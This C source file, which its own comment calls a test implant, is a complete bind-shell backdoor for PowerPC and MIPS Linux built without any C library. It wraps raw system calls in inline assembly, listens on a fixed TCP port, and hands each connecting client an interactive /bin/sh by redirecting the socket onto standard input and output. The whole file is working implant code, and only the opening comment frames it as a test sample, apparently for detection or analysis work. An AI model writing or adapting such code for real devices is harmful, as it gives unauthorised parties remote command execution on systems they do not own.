/* Test implant (never executed): a bind shell without any C library, the
 * shape of a stripped static implant for an ABI nobody ships a libc for:
 * each system call is an inlined `sc` (PowerPC) or `syscall` (MIPS n32)
 * with the number loaded just before it. Build with -nostdlib -static
 * -Wl,-e,_start. */
#include <asm/unistd.h>

#if defined(__powerpc__)
static inline __attribute__((always_inline)) long sys3(long n, long a, long b, long c)
{
	register long r0 __asm__("r0") = n;
	register long r3 __asm__("r3") = a;
	register long r4 __asm__("r4") = b;
	register long r5 __asm__("r5") = c;
	__asm__ volatile("sc"
			 : "+r"(r0), "+r"(r3), "+r"(r4), "+r"(r5)
			 :
			 : "r6", "r7", "r8", "r9", "r10", "r11", "r12", "cr0", "ctr", "memory");
	return r3;
}
#elif defined(__mips__)
static inline __attribute__((always_inline)) long sys3(long n, long a, long b, long c)
{
	register long v0 __asm__("$2") = n;
	register long a0 __asm__("$4") = a;
	register long a1 __asm__("$5") = b;
	register long a2 __asm__("$6") = c;
	register long a3 __asm__("$7");
	__asm__ volatile("syscall"
			 : "+r"(v0), "=r"(a3)
			 : "r"(a0), "r"(a1), "r"(a2)
			 : "$1", "$3", "$8", "$9", "$10", "$11", "$12", "$13", "$14", "$15", "$24",
			   "$25", "hi", "lo", "memory");
	return a3 ? -v0 : v0;
}
#else
#error "PowerPC or MIPS only"
#endif

#if defined(__mips__)
#define STREAM 2 /* MIPS numbers SOCK_STREAM 2, SOCK_DGRAM 1 */
#else
#define STREAM 1
#endif

static const char sh[] = "/bin/sh";

void _start(void)
{
	struct {
		unsigned short family, port;
		unsigned int addr;
		unsigned char zero[8];
	} a = { 2, 0x697a, 0, { 0 } };
	const char *argv[] = { sh, 0 };
	long s = sys3(__NR_socket, 2, STREAM, 0), c;
	sys3(__NR_bind, s, (long)&a, sizeof(a));
	sys3(__NR_listen, s, 1, 0);
	for (;;) {
		c = sys3(__NR_accept, s, 0, 0);
		if (c < 0)
			continue;
		sys3(__NR_dup2, c, 0, 0);
		sys3(__NR_dup2, c, 1, 0);
		sys3(__NR_dup2, c, 2, 0);
		sys3(__NR_execve, (long)sh, (long)argv, 0);
		sys3(__NR_exit, 1, 0, 0);
	}
}
